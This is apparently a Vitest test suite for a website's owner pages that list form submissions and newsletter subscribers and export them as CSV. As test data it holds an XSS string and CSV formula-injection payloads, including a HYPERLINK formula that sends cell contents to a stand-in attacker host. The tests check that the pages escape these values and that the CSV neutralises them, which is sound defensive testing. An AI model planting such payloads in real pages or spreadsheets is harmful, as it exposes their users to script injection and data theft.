import { Window } from 'happy-dom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_ATTEMPTS } from '../../src/server/mail/outbox.ts';
import { toJson } from '../../src/server/db/dialect.ts';
import { insertSubmission, insertSubscriber } from '../../src/server/forms/repo.ts';
import { agedKey, captchaForm, directNewsletter, MINI_HOST, MINI_ID, payload, save, siteWithForms } from '../../src/server/forms/test-client.ts';
import { BOM } from '../../src/server/owner/csv.ts';
import { everyFieldForm, newsletterForm } from '../../src/shared/forms/test-form.ts';
import { createTestApp, readSite } from '../helpers/app.ts';

// The owner's /config/forms (issue 5): submissions sent through the real API (and older ones
// stored through the forms repo) listed newest first with every value escaped, pagination, CSV
// safe against formula injection, subscribers and their CSV, the mail state, and tenancy.
type TestApp = Awaited<ReturnType<typeof createTestApp>>;
let t: TestApp;
const OTHER_ID = 'bbbbbbbbbbbbbbbbbbbbbbbb';
const OTHER_HOST = 'otro.vitrina.test';
const FOREIGN_FORM = { ...everyFieldForm, id: 'e0e0e0e0e0e0e0e0e0e0e0e0', name: 'Formulario ajeno' };
const FORM = everyFieldForm.id;
const PASSWORD = 'pan de masa madre';
const LIMITS = { FORMS_VISITOR_PER_MINUTE: '100000', FORMS_IP_PER_MINUTE: '100000' };
const OLD = Date.UTC(2025, 0, 1, 12, 0, 0);
/** A date and time as the es-419 pages show them: "22 nov 2026, 12:20 p.m.". */
const DATE_TIME = /^\d{1,2} \p{L}{3}\.? \d{4}, \d{1,2}:\d{2}\s[ap]\.\s?m\.$/u;
let cookie = '';

/** Signs the owner of the mini site in and answers the session cookie. */
async function signIn(app: TestApp['app'], email = 'ana@panaderia.mx'): Promise<string> {
  await app.vitrina.owners.service.addOwner(MINI_ID, { email, password: PASSWORD, role: 1 });
  const login = await app.inject({ method: 'GET', url: '/config/login', headers: { host: MINI_HOST } });
  const crumb = /name="crumb" value="([^"]+)"/.exec(login.body)![1];
  const res = await app.inject({
    method: 'POST', url: '/config/login',
    headers: { host: MINI_HOST, cookie: `crumb=${crumb}`, 'content-type': 'application/x-www-form-urlencoded' },
    payload: new URLSearchParams({ crumb, email, password: PASSWORD }).toString(),
  });
  expect(res.statusCode).toBe(303);
  return `vitrina_session=${res.cookies.find((c) => c.name === 'vitrina_session')!.value}`;
}

/** A submission through FormSubmissionKey and SaveFormSubmission, its key aged past the minimum fill time. */
async function submit(formId: string, values: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  const res = await save(t.app, payload(formId, await agedKey(t.app, t.db), values, extra));
  expect(res.statusCode, res.body).toBe(200);
}

/** A stored submission of `formId` made `minutesAfterOld` minutes after OLD (through the forms repo). */
const stored = (formId: string, minutesAfterOld: number, values: Record<string, unknown>, website = MINI_ID) => ({
  website_id: website, form_id: formId, collection_id: 'aaaaaaaaaaaaaaaaaaaaaa99', object_name: 'form-0', is_overlay: 0, submit_button_text: 'Enviar',
  page_title: 'Contacto', page_id: 'aaaaaaaaaaaaaaaaaaaaaa99', content_source: 'c', page_path: '/contacto', field_values: toJson(values),
  visitor_id: null, user_agent: null, spam: 0, created_at: OLD + minutesAfterOld * 60_000,
});

beforeAll(async () => {
  t = await createTestApp(LIMITS);
  await t.publish(siteWithForms(readSite()));
  const other = siteWithForms(readSite(), [FOREIGN_FORM]);
  other.website = { id: OTHER_ID, identifier: 'otro', title: 'Florería Otra', domains: [] };
  other.collections = other.collections.filter((c: any) => c.urlId === 'contacto').map((c: any) => ({ ...c, id: 'bbbbbbbbbbbbbbbbbbbbbb99' }));
  other.homePage = 'contacto';
  other.media = [];
  await t.publish(other);

  // 120 older submissions (one a minute from OLD), then 4 through the API, the newest last.
  for (let i = 0; i < 120; i++) await insertSubmission(t.db, stored(FORM, i, { email: `cliente${i}@ejemplo.com`, text: `Viejo ${i}` }));
  await insertSubmission(t.db, stored(FOREIGN_FORM.id, 0, { email: 'ajeno@ejemplo.com', text: 'De otro sitio' }, OTHER_ID));
  await submit(FORM, { email: 'ana@ejemplo.com', name: ['Ana', 'Pérez'], text: 'Primero', checkbox: ['Arte', 'Música'], likert: { '¿Te gustó?': ['2'], '¿Volverías?': ['-1'] } });
  await submit(FORM, { email: 'beto@ejemplo.com', name: ['Beto', 'Ruiz'], text: '<script>alert(1)</script>', textarea: '<b>negrita</b> & "x"', address: ['Calle 5 #10', '', 'Lima', '', '15001', 'Perú'] });
  await submit(FORM, { email: 'ceci@ejemplo.com', name: ['Ceci', 'Luna'], text: '=HYPERLINK("http://malo.example/?x="&A1,"clic")', number: '+1', currency: '-2', twitter: '@SUM(A1:A9)', date: ['03', '15', '2025'], time: ['10', '30', '', 'PM'] });
  await submit(FORM, { email: 'dani@ejemplo.com', name: ['Dani', 'Sol'], text: 'Con "comillas", comas\ny dos líneas', phone: ['', '55', '1234', '5678'] }, { pagePath: '/contacto?x=1' });

  // Subscribers: pending (double opt-in), confirmed (no opt-in), one unsubscribed through the repo.
  await submit(newsletterForm.id, { email: 'lucia@ejemplo.com', name: ['Lucía', 'Rey'] }, { pagePath: '/' });
  await submit(directNewsletter.id, { email: 'mario@ejemplo.com', name: ['=Mario', 'Paz'] }, { pagePath: '/blog' });
  await insertSubscriber(t.db, {
    id: 'ffffffffffffffffffffffff', website_id: MINI_ID, form_id: newsletterForm.id, email: 'vieja@ejemplo.com', name: 'Vieja', status: 'unsubscribed',
    confirm_token_hash: null, unsubscribe_token_hash: 'x'.repeat(43), page_path: '/', created_at: OLD, updated_at: OLD + 2000, confirmation_sent_at: OLD, confirmed_at: OLD + 1000, unsubscribed_at: OLD + 2000,
  });

  // Outbox: one mail sent and one given up, the others pending.
  const mails = await t.db.selectFrom('mail_outbox').select('id').where('website_id', '=', MINI_ID).orderBy('id').execute();
  await t.db.updateTable('mail_outbox').set({ sent_at: Date.now() }).where('id', '=', mails[0].id).execute();
  await t.db.updateTable('mail_outbox').set({ attempts: MAX_ATTEMPTS, last_error: 'connection refused' }).where('id', '=', mails[1].id).execute();
  cookie = await signIn(t.app);
}, 60_000);
afterAll(() => t.close());

const get = (url: string, headers: Record<string, string> = {}) => t.app.inject({ method: 'GET', url, headers: { host: MINI_HOST, cookie, ...headers } });

/** A page, parsed. */
async function page(url: string) {
  const res = await get(url);
  const window = new Window();
  window.document.write(res.body);
  return { res, doc: window.document };
}
type Doc = Awaited<ReturnType<typeof page>>['doc'];
const text = (doc: Doc, selector: string) => doc.querySelector(selector)?.textContent?.trim();
/** The data table's rows as cell texts. */
const rows = (doc: Doc) => [...doc.querySelectorAll('.owner-table--data tbody tr')].map((tr) => [...tr.querySelectorAll('th, td')].map((c) => c.textContent!.trim()));
const heads = (doc: Doc) => [...doc.querySelectorAll('.owner-table--data thead th')].map((c) => c.textContent!.trim());

/** A CSV body as records of fields (RFC 4180 quoting undone). */
function parseCsv(body: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && body[i + 1] === '\n') row.push(field), out.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return out;
}

describe('/config/forms', () => {
  it('lists every published form of the site with its count and newest date, and the mail figures', async () => {
    const { res, doc } = await page('/config/forms');
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(text(doc, 'h1')).toBe('Formularios');
    expect(doc.querySelector('.owner-nav a[aria-current="page"]')?.getAttribute('href')).toBe('/config/forms');
    const row = (id: string) => [...doc.querySelectorAll(`#form-${id} th a, #form-${id} th span, #form-${id} td`)].map((c) => c.textContent!.trim());
    const contact = row(FORM);
    expect(contact.slice(0, 3)).toEqual(['Contacto', 'Formulario', '124']);
    expect(contact[3]).toMatch(DATE_TIME);
    expect(row(captchaForm.id)).toEqual(['Con captcha', 'Formulario', '0', 'Ninguno todavía']);
    expect(row(newsletterForm.id).slice(0, 3)).toEqual(['Boletín', 'Boletín', '0 confirmados1 pendiente1 dado de baja']);
    expect(text(doc, `#form-${newsletterForm.id} td`)).toBe('0 confirmados1 pendiente1 dado de baja');
    expect(doc.querySelectorAll('#forms-list tbody tr')).toHaveLength(4);
    expect(text(doc, '#forms-list')).not.toContain('Formulario ajeno');
    expect(doc.querySelector(`#form-${FORM} a`)?.getAttribute('href')).toBe(`/config/forms/${FORM}`);
    expect(doc.querySelector(`#form-${newsletterForm.id} a`)?.getAttribute('href')).toBe(`/config/forms/subscribers?form=${newsletterForm.id}`);
    expect(text(doc, '#mail-sent .owner-stat__value')).toBe('1');
    expect(text(doc, '#mail-failed .owner-stat__value')).toBe('1');
    const all = await t.db.selectFrom('mail_outbox').select('id').where('website_id', '=', MINI_ID).execute();
    expect(text(doc, '#mail-pending .owner-stat__value')).toBe(String(all.length - 2));
    expect(doc.querySelectorAll('script').length).toBe(0);
  });

  it('says in Spanish that submissions are stored but mail is off when SMTP is not configured', async () => {
    const { doc } = await page('/config/forms');
    expect(text(doc, '#mail-off')).toContain('Los avisos por correo están desactivados');
    expect(text(doc, '#mail-off')).toContain('Los envíos se guardan');
  });

  it('without a session answers 303 to the sign-in page, for every forms route', async () => {
    for (const url of ['/config/forms', `/config/forms/${FORM}`, `/config/forms/${FORM}/submissions.csv`, '/config/forms/subscribers', '/config/forms/subscribers.csv']) {
      const res = await t.app.inject({ method: 'GET', url, headers: { host: MINI_HOST } });
      expect(res.statusCode, url).toBe(303);
      expect(res.headers.location).toBe(`/config/login?next=${encodeURIComponent(url)}`);
    }
  });
});

describe('/config/forms/:formId', () => {
  it('shows the submissions newest first, each value under its field label, lists joined, likert as question: answer', async () => {
    const { res, doc } = await page(`/config/forms/${FORM}`);
    expect(res.statusCode).toBe(200);
    expect(text(doc, 'h1')).toBe('Envíos de «Contacto»');
    expect(text(doc, '#submissions-total')).toBe('124 envíos, del más reciente al más antiguo.');
    const h = heads(doc);
    expect(h).toEqual(['Fecha', 'Asunto', 'Mensaje', 'Correo', 'Personas', 'Sitio web', 'Presupuesto', 'Clave', 'Twitter', 'Fecha', 'Hora', 'Nombre', 'Dirección', 'Teléfono', 'Talla', 'Intereses', 'País', 'Opinión', 'utm_source', 'Página']);
    const r = rows(doc);
    expect(r).toHaveLength(50);
    const col = (row: string[], label: string) => row[h.indexOf(label)];
    expect(r.slice(0, 4).map((row) => col(row, 'Correo'))).toEqual(['dani@ejemplo.com', 'ceci@ejemplo.com', 'beto@ejemplo.com', 'ana@ejemplo.com']);
    expect(col(r[4], 'Correo')).toBe('cliente119@ejemplo.com');
    const ana = r[3];
    expect(col(ana, 'Nombre')).toBe('Ana Pérez');
    expect(col(ana, 'Intereses')).toBe('Arte, Música');
    expect(col(ana, 'Opinión')).toBe('¿Te gustó?: Muy de acuerdo\n¿Volverías?: En desacuerdo');
    expect(col(ana, 'utm_source')).toBe('directo');
    expect(col(ana, 'Teléfono')).toBe('—');
    expect(col(r[2], 'Dirección')).toBe('Calle 5 #10, Lima, 15001, Perú');
    expect(r[1][0]).toMatch(DATE_TIME); // the submission date column
    expect(r[1][h.lastIndexOf('Fecha')]).toBe('03/15/2025');
    expect(col(r[1], 'Hora')).toBe('10:30 PM');
    expect(col(r[0], 'Teléfono')).toBe('55 1234 5678');
    expect(col(r[0], 'Página')).toBe('/contacto?x=1');
    expect(text(doc, '.owner-content')).toContain('Fechas y horas en UTC.');
    expect(doc.querySelector('a[href$="/submissions.csv"]')?.getAttribute('href')).toBe(`/config/forms/${FORM}/submissions.csv`);
  });

  it('shows a submission holding script or HTML as text, never as markup', async () => {
    const { res, doc } = await page(`/config/forms/${FORM}`);
    expect(res.body).not.toContain('<script>alert(1)</script>');
    expect(res.body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(res.body).not.toContain('<b>negrita</b>');
    expect(doc.querySelectorAll('script, b').length).toBe(0);
    const beto = rows(doc)[2];
    expect(beto[heads(doc).indexOf('Asunto')]).toBe('<script>alert(1)</script>');
    expect(beto[heads(doc).indexOf('Mensaje')]).toBe('<b>negrita</b> & "x"');
  });

  it('paginates 50 a page with Spanish links; a page past the end shows the last one', async () => {
    const first = await page(`/config/forms/${FORM}`);
    expect(text(first.doc, '.owner-pages__at')).toBe('Página 1 de 3');
    expect(first.doc.querySelector('.owner-pages a[rel="next"]')?.getAttribute('href')).toBe(`/config/forms/${FORM}?page=2`);
    expect(text(first.doc, '.owner-pages a[rel="next"]')).toBe('Siguiente');
    expect(first.doc.querySelector('.owner-pages a[rel="prev"]')).toBeNull();
    const second = await page(`/config/forms/${FORM}?page=2`);
    expect(text(second.doc, '.owner-pages a[rel="prev"]')).toBe('Anterior');
    expect(rows(second.doc)[0][3]).toBe('cliente73@ejemplo.com');
    const third = await page(`/config/forms/${FORM}?page=3`);
    expect(rows(third.doc).map((r) => r[3])).toEqual(Array.from({ length: 24 }, (_, i) => `cliente${23 - i}@ejemplo.com`));
    expect(third.doc.querySelector('.owner-pages a[rel="next"]')).toBeNull();
    expect(text((await page(`/config/forms/${FORM}?page=99`)).doc, '.owner-pages__at')).toBe('Página 3 de 3');
    expect(text((await page(`/config/forms/${FORM}?page=abc`)).doc, '.owner-pages__at')).toBe('Página 1 de 3');
  });

  it('a form without submissions says so', async () => {
    const { doc } = await page(`/config/forms/${captchaForm.id}`);
    expect(text(doc, '#submissions-none')).toBe('Este formulario todavía no recibió envíos.');
  });

  it('answers the 404 page for an unknown form and for a form of another site', async () => {
    for (const url of [`/config/forms/${FOREIGN_FORM.id}`, '/config/forms/000000000000000000000000', `/config/forms/${FOREIGN_FORM.id}/submissions.csv`, `/config/forms/subscribers?form=${FOREIGN_FORM.id}`, '/config/forms/subscribers.csv?form=nada']) {
      const { res, doc } = await page(url);
      expect(res.statusCode, url).toBe(404);
      expect(text(doc, 'h1')).toBe('Formulario no encontrado');
      expect(res.body).not.toContain('De otro sitio');
    }
    // The other site's form with the other site's Host: this session is not valid there.
    const there = await get(`/config/forms/${FOREIGN_FORM.id}`, { host: OTHER_HOST });
    expect(there.statusCode).toBe(303);
  });

  it('sends a newsletter to its subscribers page', async () => {
    const res = await get(`/config/forms/${newsletterForm.id}`);
    expect(res.statusCode).toBe(303);
    expect(res.headers.location).toBe(`/config/forms/subscribers?form=${newsletterForm.id}`);
  });
});

describe('/config/forms/:formId/submissions.csv', () => {
  it('is a UTF-8 CSV with a BOM, a safe file name, one column per field label plus date and page, newest first', async () => {
    const res = await get(`/config/forms/${FORM}/submissions.csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="contacto-envios-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.body.startsWith(BOM)).toBe(true);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const records = parseCsv(res.body.slice(1));
    expect(records[0]).toEqual(['Fecha', 'Asunto', 'Mensaje', 'Correo', 'Personas', 'Sitio web', 'Presupuesto', 'Clave', 'Twitter', 'Fecha', 'Hora', 'Nombre', 'Dirección', 'Teléfono', 'Talla', 'Intereses', 'País', 'Opinión', 'utm_source', 'Página', 'Spam', 'Otros datos']);
    expect(records).toHaveLength(125);
    const col = (r: string[], i: number) => r[i];
    expect(records.slice(1, 5).map((r) => col(r, 3))).toEqual(['dani@ejemplo.com', 'ceci@ejemplo.com', 'beto@ejemplo.com', 'ana@ejemplo.com']);
    expect(records[1][1]).toBe('Con "comillas", comas\ny dos líneas');
    expect(records[1][19]).toBe('/contacto?x=1');
    expect(records[3][1]).toBe('<script>alert(1)</script>');
    expect(records[4][17]).toBe('¿Te gustó?: Muy de acuerdo\n¿Volverías?: En desacuerdo');
    expect(records[4][11]).toBe('Ana Pérez');
    expect(records[124][0]).toBe('2025-01-01 12:00:00');
    expect(records[124][3]).toBe('cliente0@ejemplo.com');
    // RFC 4180 on the wire: quotes doubled inside a quoted field, CRLF between records.
    expect(res.body).toContain('"Con ""comillas"", comas\ny dos líneas"');
  });

  it('prefixes a cell starting with = + - @ with a single quote (formula injection)', async () => {
    const records = parseCsv((await get(`/config/forms/${FORM}/submissions.csv`)).body.slice(1));
    const ceci = records.find((r) => r[3] === 'ceci@ejemplo.com')!;
    expect(ceci[1]).toBe(`'=HYPERLINK("http://malo.example/?x="&A1,"clic")`);
    expect(ceci[4]).toBe("'+1");
    expect(ceci[6]).toBe("'-2");
    expect(ceci[8]).toBe("'@SUM(A1:A9)");
    expect(records.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
  });

  it('streams 10,000 rows', async () => {
    const values = { email: 'masivo@ejemplo.com' };
    for (let i = 0; i < 10_000; i += 500) {
      await t.db.insertInto('form_submissions').values(Array.from({ length: 500 }, (_, j) => stored(captchaForm.id, i + j, values))).execute();
    }
    const started = Date.now();
    const res = await get(`/config/forms/${captchaForm.id}/submissions.csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/filename="con-captcha-envios-/);
    const lines = res.body.split('\r\n');
    expect(lines).toHaveLength(10_002); // header, 10,000 records, the empty end
    expect(lines[1]).toBe('2025-01-08 10:39:00,masivo@ejemplo.com,/contacto,,');
    expect(Date.now() - started).toBeLessThan(20_000);
  }, 60_000);
});

describe('/config/forms/subscribers', () => {
  it('lists the subscribers of every newsletter, newest first, with status and dates', async () => {
    const { res, doc } = await page('/config/forms/subscribers');
    expect(res.statusCode).toBe(200);
    expect(text(doc, 'h1')).toBe('Suscriptores');
    expect(heads(doc)).toEqual(['Correo electrónico', 'Nombre', 'Boletín', 'Estado', 'Suscripción', 'Confirmación', 'Baja', 'Página']);
    const r = rows(doc);
    expect(r.map((row) => row.slice(0, 4))).toEqual([
      ['mario@ejemplo.com', '=Mario Paz', 'Novedades', 'Confirmado'],
      ['lucia@ejemplo.com', 'Lucía Rey', 'Boletín', 'Pendiente de confirmar'],
      ['vieja@ejemplo.com', 'Vieja', 'Boletín', 'Dado de baja'],
    ]);
    expect(r[2][4]).toMatch(/^1 ene 2025, 12:00\sp\.\s?m\.$/);
    expect(r[2][6]).toBe(r[2][4]);
    expect(r[1][5]).toBe('—');
    expect(r[0][7]).toBe('/blog');
    expect(text(doc, '#subscribers-total')).toBe('3 suscriptores, del más reciente al más antiguo.');
  });

  it('filters one newsletter and shows its counts', async () => {
    const { doc } = await page(`/config/forms/subscribers?form=${newsletterForm.id}`);
    expect(text(doc, 'h2#subscribers-heading')).toBe('Suscriptores de «Boletín»');
    expect(rows(doc).map((row) => row[0])).toEqual(['lucia@ejemplo.com', 'vieja@ejemplo.com']);
    expect(text(doc, `#list-${newsletterForm.id}`)).toBe('Boletín: 0 confirmados, 1 pendiente, 1 dado de baja');
    expect(doc.querySelector('.owner-filter a[aria-current="page"]')?.getAttribute('href')).toBe(`/config/forms/subscribers?form=${newsletterForm.id}`);
    expect(doc.querySelector('a[href^="/config/forms/subscribers.csv"]')?.getAttribute('href')).toBe(`/config/forms/subscribers.csv?form=${newsletterForm.id}`);
  });

  it('exports subscribers as CSV, formula-safe', async () => {
    const res = await get('/config/forms/subscribers.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="suscriptores-todos-\d{4}-\d{2}-\d{2}\.csv"$/);
    const records = parseCsv(res.body.slice(1));
    expect(records[0]).toEqual(['Correo electrónico', 'Nombre', 'Boletín', 'Estado', 'Suscripción', 'Confirmación', 'Baja', 'Página']);
    expect(records.slice(1).map((r) => [r[0], r[1], r[2], r[3]])).toEqual([
      ['mario@ejemplo.com', "'=Mario Paz", 'Novedades', 'Confirmado'],
      ['lucia@ejemplo.com', 'Lucía Rey', 'Boletín', 'Pendiente de confirmar'],
      ['vieja@ejemplo.com', 'Vieja', 'Boletín', 'Dado de baja'],
    ]);
    expect(records[3].slice(4, 7)).toEqual(['2025-01-01 12:00:00', '2025-01-01 12:00:01', '2025-01-01 12:00:02']);
    const one = await get(`/config/forms/subscribers.csv?form=${directNewsletter.id}`);
    expect(one.headers['content-disposition']).toMatch(/filename="novedades-suscriptores-/);
    expect(parseCsv(one.body.slice(1))).toHaveLength(2);
  });
});

describe('with SMTP configured', () => {
  it('shows no mail-off notice', async () => {
    const on = await createTestApp({ SMTP_URL: 'smtp://127.0.0.1:9' }, { mail: { pollMs: 3_600_000, retryBaseMs: 3_600_000 } });
    try {
      await on.publish(siteWithForms(readSite()));
      const session = await signIn(on.app);
      const res = await on.app.inject({ method: 'GET', url: '/config/forms', headers: { host: MINI_HOST, cookie: session } });
      expect(res.statusCode).toBe(200);
      expect(res.body).not.toContain('id="mail-off"');
      expect(res.body).toContain('Los avisos por correo están activos');
    } finally {
      await on.close();
    }
  }, 30_000);
});
